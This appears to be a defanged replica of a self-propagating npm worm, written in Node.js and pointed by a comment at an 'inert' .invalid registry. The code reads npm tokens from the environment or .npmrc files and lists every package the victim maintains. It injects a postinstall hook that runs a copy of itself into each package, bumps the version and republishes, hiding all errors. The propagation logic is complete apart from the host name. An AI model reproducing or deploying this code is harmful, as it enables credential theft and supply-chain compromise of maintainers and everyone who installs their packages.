const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const REGISTRY = 'https://registry.npmjs.invalid'; // inert replica: reserved registry host
const sh = (c, o = {}) => execSync(c, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], ...o });

function findToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  for (const f of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')]) {
    try {
      const m = /_authToken=(\S+)/.exec(fs.readFileSync(f, 'utf8'));
      if (m) return m[1];
    } catch (e) {}
  }
  return null;
}

async function main() {
  const token = findToken();
  if (!token) return;
  const h = { Authorization: `Bearer ${token}` };
  const who = await (await fetch(`${REGISTRY}/-/whoami`, { headers: h })).json();
  const res = await (await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${who.username}&size=100`, { headers: h })).json();
  const work = path.join(os.tmpdir(), 'nonexistent', 'w');
  for (const { package: p } of res.objects || []) {
    try {
      const tgz = sh(`npm pack ${p.name}@latest --registry ${REGISTRY}`, { cwd: work }).trim();
      sh(`tar xzf ${tgz}`, { cwd: work });
      const pj = path.join(work, 'package', 'package.json');
      const meta = JSON.parse(fs.readFileSync(pj, 'utf8'));
      meta.scripts = { ...(meta.scripts || {}), postinstall: 'node bundle.js' };
      meta.version = meta.version.replace(/(\d+)$/, (d) => String(Number(d) + 1));
      fs.writeFileSync(pj, JSON.stringify(meta, null, 2));
      fs.copyFileSync(__filename, path.join(work, 'package', 'bundle.js'));
      sh(`npm publish --registry ${REGISTRY}`, { cwd: path.join(work, 'package'), env: { ...process.env, NPM_CONFIG_TOKEN: token } });
    } catch (e) {}
  }
}
main().catch(() => {});
